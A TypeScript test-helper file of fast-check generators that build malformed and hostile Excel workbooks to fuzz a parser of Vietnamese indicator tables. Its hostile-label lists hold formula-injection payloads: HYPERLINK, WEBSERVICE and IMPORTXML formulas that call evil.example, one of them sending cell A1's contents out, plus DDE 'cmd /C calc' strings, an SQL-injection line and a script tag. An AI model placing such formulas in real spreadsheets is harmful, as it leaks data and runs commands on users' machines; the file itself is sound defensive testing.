/**
 * fast-check generators of hostile workbooks: indicator tables with random extras, merged cells
 * anywhere, error values, huge and negative numbers, empty and very wide sheets, Unicode,
 * formula-looking labels, text in number columns and duplicate headers.
 */
import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { formatNumber } from '../../src/core/numbers';
import type { CellRange } from '../../src/core/types';

export type CellSpec =
  | null
  | number
  | string
  | boolean
  | { error: string }
  | { formula: string; result: number | string | { error: string } | null };

export interface PlacedCell {
  row: number;
  col: number;
  value: CellSpec;
  numFmt: string | null;
}

export interface SheetSpec {
  name: string;
  cells: PlacedCell[];
  merges: CellRange[];
  protected: boolean;
}

export interface WorkbookSpec {
  sheets: SheetSpec[];
}

/** Labels a spreadsheet would execute or that other tools treat as formulas (CSV injection). */
export const HOSTILE_LABELS = [
  '=HYPERLINK("http://evil.example/x","Bấm vào đây")',
  '=HYPERLINK("x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  '=1+1',
  '\t=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
] as const;

export const HOSTILE_TEXT = [
  ...HOSTILE_LABELS,
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🚜🌾',
  '\u202Eevil\u202C tỷ lệ',
  'Ủy ban\u200b nhân dân',
  'x'.repeat(3000),
  '"; DROP TABLE x; --',
  '<script>alert(1)</script>',
  "Kinh tế (2023)'s",
  '#DIV/0!',
  '#N/A',
  '',
  '   ',
  '\n',
] as const;

const LABELS = [
  'Tổng giá trị sản xuất',
  'Tốc độ tăng trưởng kinh tế',
  'Thu nhập bình quân đầu người',
  'Tỷ lệ hộ nghèo',
  'Sản lượng lương thực',
  'Tỷ lệ trẻ em suy dinh dưỡng',
  'Thu ngân sách nhà nước',
  'Tỷ lệ tham gia bảo hiểm y tế',
  'Xếp loại chính quyền',
  'KINH TẾ',
  'VĂN HÓA - XÃ HỘI',
  'Trong đó: lúa',
  'GDP growth',
  'Poverty rate',
] as const;

const UNITS = ['%', 'Tỷ đồng', 'Triệu đồng/người', 'Tấn', 'Hộ', 'người', 'ha', '', 'Loại'] as const;

const HEADERS_VI = ['STT', 'Chỉ tiêu', 'ĐVT', 'KH 2023', 'TH 2023'] as const;
const HEADERS_EN = ['No.', 'Indicator', 'Unit', 'Plan 2023', 'Actual 2023'] as const;
const EXTRA_HEADERS = [
  'Ước TH 2023',
  'Cùng kỳ 2022',
  'Ghi chú',
  'Đánh giá',
  'TH/KH (%)',
  'So sánh (%)',
  'KH 2023',
  'TH 2023',
  'Chỉ tiêu',
  'Kế hoạch',
  'Thực hiện',
  '2023',
  '',
  '=HYPERLINK("x")',
  "+cmd|' /C calc'!A0",
] as const;

const NUMBER_FORMATS = [null, null, null, '0.0%', '0%', '#,##0', '#,##0.00', '@', '0.0', '"KH" 0'] as const;
const ERRORS = ['#DIV/0!', '#N/A', '#REF!', '#VALUE!', '#NAME?', '#NUM!', '#NULL!'] as const;

export const SHEET_NAMES = [
  'Sheet1',
  'Kinh tế (2023)',
  "Báo cáo 'KT-XH' năm",
  'BC 6 tháng',
  'Chỉ tiêu!',
  'A & B, C',
  '2023',
  'Ủy ban xã',
  "O'Brien",
  'x'.repeat(31),
] as const;

/** `arb` once in `every` cases, null otherwise. */
function rarely<T>(arb: fc.Arbitrary<T>, every: number): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: every - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: arb });
}

const hugeNumber = fc.constantFrom(
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  -Number.MAX_SAFE_INTEGER,
  5e-324,
  -0,
  0,
  1e15,
  -123456789.123,
);

export const numberArb: fc.Arbitrary<number> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -1000, max: 100000 }) },
  { weight: 3, arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: hugeNumber },
);

const textNumberArb: fc.Arbitrary<string> = fc
  .tuple(numberArb, fc.constantFrom('vi' as const, 'en' as const), fc.integer({ min: 0, max: 3 }), fc.boolean())
  .filter(([v]) => Math.abs(v) < 1e15)
  .map(([v, lang, decimals, pct]) => formatNumber(v, lang, decimals) + (pct ? '%' : ''));

const targetTextArb: fc.Arbitrary<string> = fc.constantFrom(
  'trên 90',
  '>= 95%',
  'từ 90% trở lên',
  '9 - 9,5',
  'dưới 1,5',
  'không quá 3%',
  'Giỏi',
  'Khá',
  'Hoàn thành tốt',
  'x',
  '-',
  'Đạt',
  'Không đạt',
  '1.152,1',
  '1,152.1',
  '4.807.887.427',
  '5,40%',
);

export const valueArb: fc.Arbitrary<CellSpec> = fc.oneof(
  { weight: 6, arbitrary: numberArb },
  { weight: 3, arbitrary: textNumberArb },
  { weight: 2, arbitrary: targetTextArb },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom(...ERRORS).map((error) => ({ error })) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constant(null) },
  {
    weight: 1,
    arbitrary: fc.oneof(
      numberArb.map((result) => ({ formula: 'SUM(1,2)', result })),
      fc.constant({ formula: '1/0', result: { error: '#DIV/0!' } }),
      fc.constant({ formula: 'A1&"x"', result: 'x' }),
      fc.constant({ formula: 'NA()', result: null }),
    ),
  },
);

const labelArb: fc.Arbitrary<CellSpec> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...LABELS) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_LABELS) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 1, arbitrary: valueArb },
);

interface TableSpec {
  top: number;
  left: number;
  headers: string[];
  rows: CellSpec[][];
  numFmts: (string | null)[];
}

const tableArb: fc.Arbitrary<TableSpec> = fc
  .record({
    top: fc.oneof(fc.integer({ min: 0, max: 6 }), fc.integer({ min: 0, max: 300 })),
    left: fc.oneof(fc.integer({ min: 0, max: 3 }), fc.integer({ min: 0, max: 60 })),
    base: fc.constantFrom(HEADERS_VI, HEADERS_EN),
    extras: fc.array(fc.tuple(fc.nat(6), fc.constantFrom(...EXTRA_HEADERS)), { maxLength: 3 }),
    drop: rarely(fc.nat(4), 4),
    rowCount: fc.integer({ min: 0, max: 10 }),
    seedRows: fc.array(
      fc.tuple(labelArb, fc.constantFrom(...UNITS), fc.array(valueArb, { minLength: 8, maxLength: 8 })),
      {
        minLength: 10,
        maxLength: 10,
      },
    ),
    numFmts: fc.array(fc.constantFrom(...NUMBER_FORMATS), { minLength: 10, maxLength: 10 }),
  })
  .map(({ top, left, base, extras, drop, rowCount, seedRows, numFmts }) => {
    const headers: string[] = [...base];
    if (drop !== null) headers.splice(drop, 1);
    for (const [at, text] of extras) headers.splice(Math.min(at, headers.length), 0, text);
    const rows = seedRows.slice(0, rowCount).map(([label, unit, values], i) =>
      headers.map((h, c): CellSpec => {
        if (/^(STT|No\.)$/.test(h)) return i + 1;
        if (/Chỉ tiêu|Indicator/.test(h)) return label;
        if (/ĐVT|Unit/.test(h)) return unit;
        return values[c % values.length];
      }),
    );
    return { top, left, headers, rows, numFmts };
  });

const rangeArb = (maxRow: number, maxCol: number): fc.Arbitrary<CellRange> =>
  fc
    .record({
      top: fc.nat(maxRow),
      left: fc.nat(maxCol),
      h: fc.nat(3),
      w: fc.nat(3),
    })
    .filter(({ h, w }) => h + w > 0)
    .map(({ top, left, h, w }) => ({ top, left, bottom: top + h, right: left + w }));

const strayArb: fc.Arbitrary<PlacedCell> = fc.record({
  row: fc.oneof(fc.nat(30), fc.nat(400)),
  col: fc.oneof(fc.nat(12), fc.nat(70)),
  value: valueArb,
  numFmt: fc.constantFrom(...NUMBER_FORMATS),
});

function overlaps(a: CellRange, b: CellRange): boolean {
  return a.left <= b.right && b.left <= a.right && a.top <= b.bottom && b.top <= a.bottom;
}

const sheetArb: fc.Arbitrary<Omit<SheetSpec, 'name'>> = fc
  .record({
    tables: fc.array(tableArb, { maxLength: 2 }),
    strays: fc.array(strayArb, { maxLength: 8 }),
    merges: fc.array(rangeArb(30, 14), { maxLength: 5 }),
    wide: rarely(fc.oneof(fc.integer({ min: 100, max: 16383 }), fc.constant(16383)), 30),
    protect: fc.nat(12),
  })
  .map(({ tables, strays, merges, wide, protect }) => {
    const cells = new Map<string, PlacedCell>();
    const put = (cell: PlacedCell): void => {
      cells.set(`${cell.row},${cell.col}`, cell);
    };
    for (const t of tables) {
      t.headers.forEach((h, c) => put({ row: t.top, col: t.left + c, value: h, numFmt: null }));
      t.rows.forEach((row, r) =>
        row.forEach((value, c) => put({ row: t.top + 1 + r, col: t.left + c, value, numFmt: t.numFmts[c] ?? null })),
      );
    }
    for (const s of strays) put(s);
    if (wide !== null) put({ row: 0, col: wide, value: 'wide', numFmt: null });
    const kept: CellRange[] = [];
    for (const m of merges) if (!kept.some((k) => overlaps(k, m))) kept.push(m);
    return { cells: [...cells.values()], merges: kept, protected: protect === 0 };
  });

export const workbookArb: fc.Arbitrary<WorkbookSpec> = fc
  .tuple(
    fc.uniqueArray(fc.constantFrom(...SHEET_NAMES), { minLength: 1, maxLength: 3 }),
    fc.array(sheetArb, { minLength: 3, maxLength: 3 }),
    fc.nat(9),
  )
  .map(([names, sheets, empty]) => ({
    sheets: names.map((name, i) =>
      empty === i ? { name, cells: [], merges: [], protected: false } : { name, ...sheets[i] },
    ),
  }));

function excelValue(value: CellSpec): ExcelJS.CellValue {
  if (value === null || typeof value !== 'object') return value;
  if ('formula' in value)
    return { formula: value.formula, result: value.result ?? undefined } as ExcelJS.CellFormulaValue;
  return { error: value.error } as ExcelJS.CellErrorValue;
}

/** An ExcelJS workbook holding the spec. */
export function buildWorkbook(spec: WorkbookSpec): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  for (const sheet of spec.sheets) {
    const ws = wb.addWorksheet(sheet.name);
    for (const cell of sheet.cells) {
      const target = ws.getCell(cell.row + 1, cell.col + 1);
      target.value = excelValue(cell.value);
      if (cell.numFmt) target.numFmt = cell.numFmt;
    }
    for (const m of sheet.merges) ws.mergeCells(m.top + 1, m.left + 1, m.bottom + 1, m.right + 1);
    if (sheet.protected) (ws as unknown as { sheetProtection: { sheet: boolean } }).sheetProtection = { sheet: true };
  }
  return wb;
}
